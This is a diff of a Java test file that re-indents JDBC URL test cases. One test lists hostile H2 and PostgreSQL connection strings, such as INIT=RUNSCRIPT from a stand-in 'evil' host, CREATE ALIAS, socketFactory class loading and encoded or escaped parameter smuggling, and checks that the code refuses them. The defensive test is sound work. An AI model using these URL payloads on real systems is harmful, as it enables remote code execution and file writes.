@@ -22,42 +22,41 @@ class DatabaseUrlsTest {
 
     @ParameterizedTest
     @CsvSource({
-        "jdbc:h2:./orders, jdbc:h2:file:/flows/orders",
-        "jdbc:h2:orders;MODE=PostgreSQL, jdbc:h2:file:/flows/orders;MODE=PostgreSQL",
-        "jdbc:h2:file:../x, jdbc:h2:file:/x",
-        "jdbc:h2:/abs/orders, jdbc:h2:file:/abs/orders",
-        "jdbc:h2:mem:a;DB_CLOSE_DELAY=-1, jdbc:h2:mem:a;DB_CLOSE_DELAY=-1",
-        "jdbc:h2:tcp://localhost/x, jdbc:h2:tcp://localhost/x",
-        "jdbc:postgresql://h/db?sslmode=require, jdbc:postgresql://h/db?sslmode=require"
+            "jdbc:h2:./orders, jdbc:h2:file:/flows/orders",
+            "jdbc:h2:orders;MODE=PostgreSQL, jdbc:h2:file:/flows/orders;MODE=PostgreSQL",
+            "jdbc:h2:file:../x, jdbc:h2:file:/x",
+            "jdbc:h2:/abs/orders, jdbc:h2:file:/abs/orders",
+            "jdbc:h2:mem:a;DB_CLOSE_DELAY=-1, jdbc:h2:mem:a;DB_CLOSE_DELAY=-1",
+            "jdbc:h2:tcp://localhost/x, jdbc:h2:tcp://localhost/x",
+            "jdbc:postgresql://h/db?sslmode=require, jdbc:postgresql://h/db?sslmode=require"
     })
     void filesAreMeantFromTheWorkFolder(String given, String used) throws Exception {
         assertThat(login(given).url()).isEqualTo(used);
     }
 
     @ParameterizedTest
-    @ValueSource(
-            strings = {
-                "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
-                "jdbc:h2:mem:a;init=CREATE ALIAS X AS 'x'",
-                "jdbc:h2:mem:a; INIT =SELECT 1",
-                "jdbc:h2:mem:a;\u0131nit=SELECT 1",
-                "jdbc:h2:mem:a;MODE=MySQL\\;INIT=SELECT 1",
-                "jdbc:h2:./a;TRACE_LEVEL_FILE=4",
-                "jdbc:h2:./a;AUTO_SERVER=TRUE",
-                "jdbc:h2:./a;DATABASE_EVENT_LISTENER='x.Y'",
-                "jdbc:h2:./a;JAVA_OBJECT_SERIALIZER='x.Y'",
-                "jdbc:h2:./a;AUTHENTICATOR=x",
-                "jdbc:h2:./a;PASSWORD=x",
-                "jdbc:h2:zip:a.zip!/x",
-                "jdbc:h2:split:./x",
-                "jdbc:h2:",
-                "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
-                "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/x",
-                "jdbc:postgresql://h/db?%73ocketFactory=x",
-                "jdbc:postgresql://h/db?user=a&password=b",
-                "jdbc:oracle:thin:@h:1521:x",
-                "orders"
-            })
+    @ValueSource(strings = {
+            "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+            "jdbc:h2:mem:a;init=CREATE ALIAS X AS 'x'",
+            "jdbc:h2:mem:a; INIT =SELECT 1",
+            "jdbc:h2:mem:a;\u0131nit=SELECT 1",
+            "jdbc:h2:mem:a;MODE=MySQL\\;INIT=SELECT 1",
+            "jdbc:h2:./a;TRACE_LEVEL_FILE=4",
+            "jdbc:h2:./a;AUTO_SERVER=TRUE",
+            "jdbc:h2:./a;DATABASE_EVENT_LISTENER='x.Y'",
+            "jdbc:h2:./a;JAVA_OBJECT_SERIALIZER='x.Y'",
+            "jdbc:h2:./a;AUTHENTICATOR=x",
+            "jdbc:h2:./a;PASSWORD=x",
+            "jdbc:h2:zip:a.zip!/x",
+            "jdbc:h2:split:./x",
+            "jdbc:h2:",
+            "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+            "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/x",
+            "jdbc:postgresql://h/db?%73ocketFactory=x",
+            "jdbc:postgresql://h/db?user=a&password=b",
+            "jdbc:oracle:thin:@h:1521:x",
+            "orders"
+    })
     void whatCouldRunCodeOrIsUnknownIsRefused(String url) {
         assertThatExceptionOfType(StepError.class).isThrownBy(() -> login(url)).satisfies(error -> {
             assertThat(error.code()).isEqualTo("sql/BadUrl");
